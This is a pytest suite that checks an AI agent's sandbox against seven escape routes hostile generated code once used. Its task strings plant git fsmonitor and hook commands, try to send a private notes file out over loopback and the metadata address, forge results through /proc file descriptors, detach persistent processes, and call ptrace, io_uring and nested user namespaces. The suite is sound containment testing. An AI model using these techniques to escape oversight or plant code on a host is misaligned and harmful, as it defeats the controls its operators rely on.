"""The seven ways hostile generated code got out of the sandbox (issue 17), each tried again as a task of a
real ``run --yes`` through the CLI, with the sandbox on. None may succeed.

1. planting code git runs on the host later; 2. sending files over the open network; 3. reaching the host's
loopback services and abstract Unix sockets; 4. forging its result through the worker's answer pipe;
5. processes outliving their task; 6. ptrace / nested user namespaces / io_uring; 7. no resource limits.

Every listener is on loopback or an abstract socket of this machine. Private, link-local and metadata
addresses are only ever named through the proxy's test resolver (``FREE_AGENT_TEST_RESOLVE``), under which
the proxy connects to nothing but loopback: no packet is sent to them.
"""

from __future__ import annotations

import http.server
import json
import os
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.fakes.provider_server import FakeProvider
from tests.support.cli import as_json, cli
from tests.support.paths import CLI
from tests.support.sandbox import SANDBOX, Plan, gone, with_cmdline

pytestmark = [pytest.mark.timeout(300),
              pytest.mark.skipif(not SANDBOX, reason="no bubblewrap sandbox here (see tests/test_cli_sandbox.py)")]
Agent = Callable[..., tuple[FakeProvider, Path]]


def _sh(script: str) -> str:
    """Python task code that runs ``script`` in bash and prints what it printed."""
    return (f"import subprocess\nr = subprocess.run(['bash', '-c', {script!r}], capture_output=True, text=True)\n"
            "print(r.stdout + r.stderr)")


def _run(agent: Agent, plan: Plan, cwd: Path, *extra: str, env: dict[str, str] | None = None,
         **config: Any) -> dict[str, Any]:
    """``run --yes --json`` of ``plan`` in ``cwd``; ``env``: variables added to the agent's environment."""
    _, cfg = agent(plan, **config)  # sets the provider's key in os.environ
    proc = cli(["run", "hostile goal", "--yes", "--json", *extra], cwd.parent.parent / "home", cfg, cwd=cwd,
               env={**os.environ, **(env or {})})
    out = as_json(proc)
    assert out["status"] in ("completed", "failed"), proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    return as_json(cli(["show", out["thread_id"], "--json"], cwd.parent.parent / "home", cfg))  # with each error


@pytest.fixture
def project(var_tmp: Path) -> Path:
    path = var_tmp / "ws" / "project"
    path.mkdir(parents=True)
    (path.parent.parent / "home").mkdir()
    (path / "notes.md").write_text("private notes\n")
    return path


# ------------------------------------------------------------------------------------ 1. planted for git
def test_nothing_a_task_leaves_in_the_folder_runs_when_you_use_git_there(agent: Agent, project: Path,
                                                                          var_tmp: Path) -> None:
    marks = [var_tmp / f"pwned{i}" for i in range(5)]
    plant = f"""
git init -q . 2>&1 | head -1; echo "root .git: $(ls -A .git 2>&1 | wc -l) entries"
git init -q sub && git -C sub config core.fsmonitor 'touch {marks[0]}'
git -C sub config alias.st '!touch {marks[1]}'
printf '#!/bin/sh\\ntouch {marks[2]}\\n' > sub/.git/hooks/post-commit && chmod +x sub/.git/hooks/post-commit
git init -q --bare evil.git && git -C evil.git config core.fsmonitor 'touch {marks[3]}'
mkdir -p deep/er && git init -q deep/er && git -C deep/er config core.pager 'touch {marks[4]}; cat'
echo planted
"""
    plan: Plan = (("plant things for git", _sh(plant)), ("b", "print('two')"), ("c", "print('three')"))
    out = _run(agent, plan, project)
    first = out["tasks"][0]["output"]
    assert "planted" in first
    for what in ("core.fsmonitor", "alias.st", "post-commit", "core.pager"):
        assert what in first, first  # named in the task's output
    assert not (project / ".git").exists()  # the root's placeholder is gone with the sandbox
    user = {**os.environ, "GIT_PAGER": "", "PAGER": "cat"}
    git = ["git", "-c", "user.name=u", "-c", "user.email=u@example.invalid"]
    for args in (["-C", "sub", "status"], ["-C", "sub", "st"], ["-C", "sub", "commit", "--allow-empty", "-qm", "x"],
                 ["-C", "evil.git", "log"], ["-C", "deep/er", "status"], ["-C", "deep/er", "-p", "log"]):
        subprocess.run([*git, *args], cwd=project, capture_output=True, env=user, timeout=60)
    assert not [m.name for m in marks if m.exists()]


# ------------------------------------------------------------------------------------ 2-3. network and host services
class _Listener:
    """A loopback TCP listener and an abstract Unix socket listener that record every connection."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        self.abstract_name = f"fla-test-{os.urandom(6).hex()}"
        self.unix = socket.socket(socket.AF_UNIX)
        self.unix.bind("\0" + self.abstract_name)
        self.unix.listen()
        self.connections: list[str] = []
        for sock, kind in ((self.tcp, "tcp"), (self.unix, "abstract")):
            threading.Thread(target=self._accept, args=(sock, kind), daemon=True).start()

    def _accept(self, sock: socket.socket, kind: str) -> None:
        while True:
            try:
                conn, _ = sock.accept()
            except OSError:
                return
            self.connections.append(kind)
            conn.close()

    def close(self) -> None:
        self.tcp.close()
        self.unix.close()


class _Web(http.server.ThreadingHTTPServer):
    def __init__(self) -> None:
        self.paths: list[str] = []
        web = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                web.paths.append(self.path)
                body = b"hello from allowed.test"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()


@pytest.fixture
def listeners() -> Iterator[tuple[_Listener, _Web]]:
    tcp, web = _Listener(), _Web()
    yield tcp, web
    tcp.close()
    web.shutdown()
    web.server_close()


def test_the_network_is_only_the_filtering_proxy(agent: Agent, project: Path,
                                                 listeners: tuple[_Listener, _Web]) -> None:
    sink, web = listeners
    web_port = web.server_address[1]
    exfiltrate = f"""import socket, urllib.request
data = open('notes.md', 'rb').read()
for name, opener in (('direct', urllib.request.build_opener(urllib.request.ProxyHandler({{}}))),
                     ('proxied', urllib.request.build_opener())):
    try:
        opener.open(urllib.request.Request('http://127.0.0.1:{sink.port}/up', data=data), timeout=10)
        print(name, 'SENT')
    except Exception as e:
        print(name, 'refused', type(e).__name__, getattr(e, 'code', ''))
try:
    s = socket.socket(socket.AF_UNIX); s.connect('\\0{sink.abstract_name}'); print('abstract SENT')
except OSError as e:
    print('abstract refused', e)
for host in ('localhost', '169.254.169.254'):
    try:
        urllib.request.urlopen(f'http://{{host}}:{sink.port}/', timeout=10); print(host, 'SENT')
    except Exception as e:
        print(host, 'refused', getattr(e, 'code', type(e).__name__))
"""
    fetch = f"""import urllib.request
for host in ('allowed.test', 'unlisted.test', 'metadata.test', 'private.test'):
    try:
        print(host, urllib.request.urlopen(f'http://{{host}}:{web_port}/page', timeout=10).read().decode())
    except Exception as e:
        print(host, 'refused', getattr(e, 'code', ''), e.read().decode() if hasattr(e, 'read') else e)
"""
    plan: Plan = (("send the notes away", exfiltrate), ("fetch pages", fetch), ("c", "print(3)"))
    resolver = json.dumps({"allowed.test": "127.0.0.1", "unlisted.test": "127.0.0.1",
                           "metadata.test": "169.254.169.254", "private.test": "10.1.2.3"})
    env = {"FREE_AGENT_TEST_RESOLVE": resolver}
    out = _run(agent, plan, project, "--allow-domain", "allowed.test", "--allow-domain", "metadata.test",
               "--allow-domain", "private.test", env=env)
    first, second = out["tasks"][0]["output"], out["tasks"][1]["output"]
    assert "SENT" not in first, first
    tried = [line for line in first.splitlines() if not line.startswith("[free-llm-agent]")]
    assert len(tried) == 5 and all(" refused " in line for line in tried), first
    assert sink.connections == []  # nothing reached the host's loopback listener or its abstract socket
    assert "allowed.test hello from allowed.test" in second  # an allowed domain is reachable
    assert web.paths == ["/page"]  # and only it reached the server
    unlisted = next(line for line in second.splitlines() if line.startswith("unlisted.test"))
    assert "403" in unlisted and "--allow-domain unlisted.test" in unlisted
    assert "link-local" in next(line for line in second.splitlines() if line.startswith("metadata.test"))
    assert "private" in next(line for line in second.splitlines() if line.startswith("private.test"))
    assert "[free-llm-agent] network:" in second and "unlisted.test" in second.split("[free-llm-agent]", 1)[1]


def test_no_network_means_none_and_open_still_refuses_loopback(agent: Agent, project: Path,
                                                              listeners: tuple[_Listener, _Web]) -> None:
    _, web = listeners
    code = f"""import urllib.request
for host in ('allowed.test', '127.0.0.1'):
    try:
        urllib.request.urlopen(f'http://{{host}}:{web.server_address[1]}/x', timeout=10); print(host, 'reached')
    except Exception as e:
        print(host, 'refused', type(e).__name__)
"""
    plan: Plan = (("reach out", code), ("b", "print(2)"), ("c", "print(3)"))
    env = {"FREE_AGENT_TEST_RESOLVE": json.dumps({"allowed.test": "127.0.0.1"})}
    off = _run(agent, plan, project, "--no-network", "--allow-domain", "allowed.test", env=env)
    assert "reached" not in off["tasks"][0]["output"]
    opened = _run(agent, plan, project, env=env, execution={"network": "open"})
    assert "allowed.test reached" in opened["tasks"][0]["output"]  # open: any domain ...
    assert "127.0.0.1 refused" in opened["tasks"][0]["output"]  # ... but never loopback
    assert web.paths == ["/x"]


# ------------------------------------------------------------------------------------ 4. forged results
def test_a_task_cannot_forge_its_result_or_shift_the_next_ones(agent: Agent, project: Path) -> None:
    forge = """import glob, json, os, sys
line = json.dumps({"ok": True, "output": "FORGED", "timed_out": False, "duration_s": 0, "error": None}) + "\\n"
opened = 0
for path in glob.glob('/proc/[0-9]*/fd/*'):
    try:
        with open(path, 'w') as f:
            f.write(line * 3)
        opened += 1
    except OSError:
        pass
for path in ['/proc/1/fd/%d' % fd for fd in range(3, 12)] + ['/proc/1/mem']:
    try:
        open(path, 'r+b').write(b'x')
        print('OPENED', path)
    except OSError as e:
        pass
print('channel closed to me')
sys.exit(3)
"""
    plan: Plan = (("forge", forge), ("second", "print('second is mine')"), ("third", "print('third is mine')"))
    out = _run(agent, plan, project)
    first, second, third = out["tasks"]
    assert first["status"] == "failed" and first["error"] == "SystemExit: 3", first
    assert not [t["id"] for t in out["tasks"] if "FORGED" in f"{t.get('output')} {t.get('error')}"]
    assert "second is mine" in second["output"] and "third is mine" in third["output"]
    assert "channel closed to me" in first["output"] and "OPENED" not in first["output"], first["output"]


def test_code_left_in_the_folder_is_never_run_by_the_agent(agent: Agent, project: Path) -> None:
    """A task plants modules named like the executor's own (the worker and its kernel run in this folder) and
    kills what it can; the next run in the same folder imports none of them and gets real results."""
    plant = """import os, pathlib
evil = "open(%r, 'w').write('imported')\\n" % os.path.abspath('IMPORTED')
for mod in ('tools/__init__.py', 'tools/executor_worker.py', 'tools/ipykernel_launcher.py', 'ipykernel_launcher.py',
            'ipykernel/__init__.py', 'jupyter_client/__init__.py', 'json.py', 'socket.py'):
    pathlib.Path(mod).parent.mkdir(exist_ok=True)
    pathlib.Path(mod).write_text(evil)
for pid in (1, 2):
    try:
        os.kill(pid, 9)
    except OSError:
        pass
print('planted')
"""
    plan: Plan = (("plant", plant), ("b", "print('two is real')"), ("c", "import sys\nsys.exit(5)"))
    first = _run(agent, plan, project)
    assert "planted" in first["tasks"][0]["output"]
    again = _run(agent, (*plan[1:], ("d", "print('four is real')")), project)
    assert "two is real" in again["tasks"][0]["output"] and again["tasks"][1]["error"] == "SystemExit: 5"
    assert not (project / "IMPORTED").exists()


# ------------------------------------------------------------------------------------ 5. processes outlive tasks
def test_a_timed_out_task_takes_every_process_it_started_with_it(agent: Agent, project: Path) -> None:
    marker = f"fla-loop-{os.urandom(4).hex()}"
    detach = f"""import subprocess, time
subprocess.run("setsid nohup sh -c 'while true; do echo {marker} >> loop.log; sleep 0.1; done' >/dev/null 2>&1 &",
               shell=True)
subprocess.Popen(['sh', '-c', 'exec -a {marker} sleep 3000'], start_new_session=True)
print('detached', flush=True)
time.sleep(600)
"""
    look = f"""import subprocess
ps = subprocess.run(['ps', '-eo', 'args'], capture_output=True, text=True).stdout
print('alive:', '{marker}' in ps or 'loop.log' in ps)
"""
    plan: Plan = (("detach and hang", detach), ("look around", look), ("c", "print(3)"))
    out = _run(agent, plan, project, execution={"task_timeout_seconds": 5})
    assert "timeout" in out["tasks"][0].get("error", "") or out["tasks"][0]["status"] == "failed"
    assert "alive: False" in out["tasks"][1]["output"], out["tasks"][1]["output"]
    assert not gone(with_cmdline(marker))


# ------------------------------------------------------------------------------------ 6. seccomp, user namespaces
def test_ptrace_nested_user_namespaces_and_io_uring_are_refused(agent: Agent, project: Path) -> None:
    code = """import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
for name, call in (('ptrace', lambda: libc.ptrace(16, 1, 0, 0)),  # PTRACE_ATTACH to pid 1
                   ('io_uring', lambda: libc.syscall(425, 8, ctypes.create_string_buffer(120))),
                   ('process_vm_readv', lambda: libc.syscall(310, 1, 0, 0, 0, 0, 0)),
                   ('bpf', lambda: libc.syscall(321, 0, 0, 0))):
    ok = call()
    print(name, 'ALLOWED' if ok >= 0 else 'refused', os.strerror(ctypes.get_errno()))
for argv in (['unshare', '-Urm', 'id'], ['unshare', '-U', 'id', '-u']):  # the second worked before (65534)
    r = subprocess.run(argv, capture_output=True, text=True)
    print(' '.join(argv), 'ALLOWED' if r.returncode == 0 else 'refused', r.stderr.strip())
"""
    plan: Plan = (("escape", code), ("b", "print(2)"), ("c", "print(3)"))
    output = _run(agent, plan, project)["tasks"][0]["output"]
    assert "ALLOWED" not in output, output
    assert output.count("refused") == 6, output


# ------------------------------------------------------------------------------------ 7. resources
def test_a_memory_hog_a_process_storm_and_a_full_tmp_are_contained(agent: Agent, project: Path) -> None:
    hog = "blocks = []\nfor _ in range(60):\n    blocks.append(bytearray(25 * 1024 * 1024))\nprint('allocated 1.5 GiB')"
    storm = """import subprocess
procs = []
try:
    for _ in range(500):
        procs.append(subprocess.Popen(['sleep', '30']))
except OSError as e:
    print('stopped at', len(procs), type(e).__name__)
print('started', len(procs))
for p in procs:
    p.kill()
"""
    tmp = """try:
    with open('/tmp/big', 'wb') as f:
        for _ in range(64):
            f.write(b'x' * 1024 * 1024)
    print('wrote 64 MB to /tmp')
except OSError as e:
    print('tmp full:', e.strerror)
"""
    plan: Plan = (("hog memory", hog), ("storm", storm), ("fill tmp", tmp))
    out = _run(agent, plan, project, execution={"memory_mb": 400, "max_processes": 96, "tmp_mb": 16})
    hog_task, storm_task, tmp_task = out["tasks"]
    assert hog_task["status"] == "failed" and "memory limit of 400 MB exceeded" in hog_task["error"], hog_task
    assert "stopped at" in storm_task["output"] and "started 500" not in storm_task["output"]
    assert "tmp full: No space left on device" in tmp_task["output"]


def test_what_a_killed_runs_background_job_planted_is_removed_by_the_next_run(agent: Agent, project: Path,
                                                                             var_tmp: Path) -> None:
    """The agent is killed (kill -9) while a task's background job plants a git setting after that task's own
    check: the next run in the folder neutralizes it before its first task, and `git status` runs nothing."""
    mark = var_tmp / "pwned-after-crash"
    later = (f"import subprocess\nsubprocess.Popen(['sh', '-c', 'sleep 1; git init -q late && git -C late config "
             f"core.fsmonitor \"touch {mark}\" && touch planted.late'])\nprint('job started')")
    hang = "import os, time\nwhile not os.path.exists('planted.late'):\n    time.sleep(0.05)\ntime.sleep(600)"
    _, cfg = agent((("plant later", later), ("hang", hang), ("c", "print(3)")))
    home = project.parent.parent / "home"
    proc = subprocess.Popen([*CLI, "--config-dir", str(cfg), "--home", str(home), "run", "g", "--yes", "--json"],
                            cwd=project, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 150
    while time.monotonic() < deadline and not (project / "planted.late").exists():
        time.sleep(0.1)
    assert (project / "planted.late").exists(), "the background job never planted"
    proc.kill()  # kill -9 of the agent: no last check
    proc.wait(timeout=30)
    assert "fsmonitor" in (project / "late" / ".git" / "config").read_text()  # armed, as it was left
    nxt = _run(agent, (("a", "print(1)"), ("b", "print(2)"), ("c", "print(3)")), project)
    assert nxt["status"] == "completed"
    subprocess.run(["git", "-C", "late", "status"], cwd=project, capture_output=True, timeout=60)
    assert not mark.exists()
    assert "fsmonitor" not in (project / "late" / ".git" / "config").read_text()
